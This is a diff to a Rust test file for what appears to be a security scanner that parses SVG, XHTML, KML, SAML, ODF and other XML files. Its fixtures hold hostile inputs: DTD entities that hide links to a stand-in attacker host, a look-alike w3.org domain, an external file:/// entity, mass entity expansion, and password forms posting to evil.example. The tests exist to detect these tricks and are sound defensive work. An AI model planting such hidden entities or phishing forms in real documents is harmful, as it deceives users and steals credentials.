@@ -109,13 +109,21 @@ fn names_of_vocabularies_are_replaced_and_nothing_else() {
         )
     };
     let known = drawing(
-        "\n\t<!ENTITY ns_x \"http://ns.adobe.com/x/\">\n\t<!ENTITY u 'https://evil.example'>\n",
-        "<a href=\"&u;/login\">x</a>",
+        "\n\t<!ENTITY ns_x \"http://ns.adobe.com/x/\">\n\t<!ENTITY ns_svg 'http://www.w3.org/2000/svg'>\n",
+        "<a href=\"https://a.example/\">x</a>",
     );
-    check(known.as_bytes(), "a.svg", &expect![[r#"["x"] ["https://evil.example/login"] [] []"#]]);
-    for own in
-        ["<!ENTITY a \"&b;\">", "<!ENTITY % a \"b\">", "<!ENTITY a SYSTEM \"file:///x\">", "<!ELEMENT a ANY>", "%a;"]
-    {
+    check(known.as_bytes(), "a.svg", &expect![[r#"["x"] ["https://a.example/"] [] []"#]]);
+    // What it stands for is seen all the same.
+    let word = drawing("<!ENTITY u 'https://evil.example'>", "<a href=\"&u;/login\">x</a>");
+    check(word.as_bytes(), "a.svg", &expect![[r#"["x"] ["https://evil.example/login"] ["dtd"] ["refused"]"#]]);
+    for own in [
+        "<!ENTITY a \"&b;\">",
+        "<!ENTITY % a \"b\">",
+        "<!ENTITY a \"http://www.w3.org.evil.example/\">",
+        "<!ENTITY a SYSTEM \"file:///x\">",
+        "<!ELEMENT a ANY>",
+        "%a;",
+    ] {
         assert_eq!(open(drawing(own, "").as_bytes(), "a.svg").items[0].marks, ["dtd"], "{own}");
     }
     let many = drawing("<!ENTITY a \"b\">", &"&a;".repeat(20_000));
@@ -155,5 +163,80 @@ fn data_of_forms() {
     let found = crate::formats::shown::shown("a.bin", fdf);
     for word in ["1 fdf", "javascript", "remote_goto", "external_link", "Fetched:", "app.alert(1)", "app.beep()"] {
         assert!(found.contains(word), "{word}: {found}");
+    }
+}
+
+/// Every kind of file that is XML, with an entity for an address, and with a public definition alone.
+#[test]
+fn own_entities_are_refused_in_every_kind_of_file() {
+    let odf = |body: &str| {
+        format!(
+            "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"t\" xmlns:xlink=\"x\" office:mimetype=\"application/vnd.oasis.opendocument.text\"><office:body><office:text>{body}</office:text></office:body></office:document>"
+        )
+    };
+    let bodies: [(&str, String); 8] = [
+        ("a.kml", "<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Link href=\"@/x\"/><name>@/x</name></kml>".to_owned()),
+        ("a.saml", "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" Destination=\"@/x\">@/x</samlp:Response>".to_owned()),
+        ("example.org!example.net!1!2.xml", "<feedback><report_metadata><extra_contact_info>@/x</extra_contact_info></report_metadata></feedback>".to_owned()),
+        ("a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"@/x\"><text>a</text></a></svg>".to_owned()),
+        ("a.xhtml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><a href=\"@/x\">a</a></body></html>".to_owned()),
+        ("a.fodt", odf("<text:p><text:a xlink:href=\"@/x\">a</text:a></text:p>")),
+        ("a.xml", "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p><w:hlink w:dest=\"@/x\"><w:r><w:t>@/x</w:t></w:r></w:hlink></w:p></w:body></w:wordDocument>".to_owned()),
+        ("a.library-ms", "<libraryDescription><url>@/x</url></libraryDescription>".to_owned()),
+    ];
+    for (name, body) in &bodies {
+        let own = format!(
+            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY u \"https://evil.example\">]>{}",
+            body.replace('@', "&u;")
+        );
+        let content = open(own.as_bytes(), name);
+        let whys: Vec<&str> = content.unopened.iter().map(|one| one.why.word()).collect();
+        assert!(
+            content.items[0].marks.contains(&"dtd".to_owned()) && whys == ["refused"],
+            "{name} {:?} {whys:?}",
+            content.items[0]
+        );
+        let is_seen = content.items[0].links.iter().any(|link| link.target.contains("https://evil.example/x"));
+        assert!(is_seen, "{name} {:?}", content.items[0]);
+        let plain = format!("<?xml version=\"1.0\"?>{}", body.replace('@', "https://a.example"));
+        let known = format!(
+            "<?xml version=\"1.0\"?><!DOCTYPE a PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">{}",
+            body.replace('@', "https://a.example")
+        );
+        for honest in [plain, known] {
+            let content = open(honest.as_bytes(), name);
+            assert!(
+                !content.items[0].marks.contains(&"dtd".to_owned()) && content.unopened.is_empty(),
+                "{name} {content:?}"
+            );
+            assert!(content.items[0].links.iter().any(|link| link.target.contains("https://a.example/x")), "{name}");
+        }
+    }
+}
+
+#[test]
+fn what_follows_an_empty_element_of_a_page_in_xml_is_seen() {
+    for empty in ["<title/>", "<script src='a'/>", "<x:textarea/>", "<iframe />"] {
+        let page = format!(
+            "<html xmlns='http://www.w3.org/1999/xhtml' xmlns:x='http://www.w3.org/1999/xhtml'><head>{empty}</head><body>\
+             <form action='https://evil.example/in'><input type='password'/></form></body></html>"
+        );
+        for name in ["a.xhtml", "a.xml", "a.html"] {
+            let content = open(page.as_bytes(), name);
+            let marks = &content.items[0].marks;
+            assert!(marks.contains(&"password_field".to_owned()), "{name} {empty} {marks:?}");
+        }
+    }
+}
+
+#[test]
+fn a_bracket_behind_the_declaration_hides_nothing() {
+    for head in ["<!DOCTYPE html>", "<!DOCTYPE html SYSTEM 'about:legacy-compat'>", "<!DOCTYPE a SYSTEM \"x[\">"] {
+        let page =
+            format!("{head}<form action='https://evil.example/in'><input type=password></form>[<!ENTITY a 'b'>]>c");
+        for name in ["a.html", "a.svg"] {
+            let marks = open(page.as_bytes(), name).items[0].marks.clone();
+            assert!(marks.contains(&"password_field".to_owned()), "{name} {head} {marks:?}");
+        }
     }
 }
